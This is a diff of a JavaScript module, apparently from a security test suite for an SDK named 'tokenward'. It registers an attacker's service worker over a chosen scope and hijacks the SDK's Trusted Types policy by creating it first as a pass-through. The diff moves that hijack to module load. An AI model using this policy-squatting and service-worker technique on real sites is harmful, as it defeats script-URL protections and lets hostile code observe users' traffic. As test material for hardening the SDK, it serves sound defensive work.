@@ -1,13 +1,16 @@
 // Scripts that put a service worker of their own where it may see more than the page does.
 
 const { attacker } = window.tw.settings;
+// The attacker makes the one policy of that name before the SDK does, which uses what it finds. Where there is
+// one already, no URL of a service worker is good any more.
+const policy = window.trustedTypes?.createPolicy("tokenward", { createScriptURL: (it) => it });
+window[Symbol.for("tokenward.policy")] = policy;
 
 /** Registers the attacker's for a scope, and waits until it is the one there. */
 export async function cover(attack, scope, stays = false) {
   const url = new URL("/attacks/sw.js", location.href);
   url.search = `${new URLSearchParams({ attack, attacker })}`;
-  const policy = window[Symbol.for("tokenward.policy")];
-  const trusted = policy ? url.href : made(url.href);
+  const trusted = policy ? policy.createScriptURL(url.href) : url.href;
   const registration = await navigator.serviceWorker.register(trusted, { scope });
   const isThere = () => registration.active?.scriptURL === url.href;
   for (
@@ -31,13 +34,6 @@ export async function cover(attack, scope, stays = false) {
   return registration.active.scriptURL;
 }
 
-/** The attacker may make the one policy of that name before the SDK does, which uses what it finds. */
-function made(url) {
-  const policy = window.trustedTypes?.createPolicy("tokenward", { createScriptURL: (it) => it });
-  window[Symbol.for("tokenward.policy")] = policy;
-  return policy?.createScriptURL(url) ?? url;
-}
-
 /** Where which service workers are. */
 export async function covers() {
   const registrations = await navigator.serviceWorker.getRegistrations();
@@ -50,6 +46,7 @@ export async function covers() {
 /** Takes all away. */
 export async function uncover() {
   for (const registration of await navigator.serviceWorker.getRegistrations()) {
+    registration.active?.postMessage("leave");
     await registration.unregister();
   }
 }
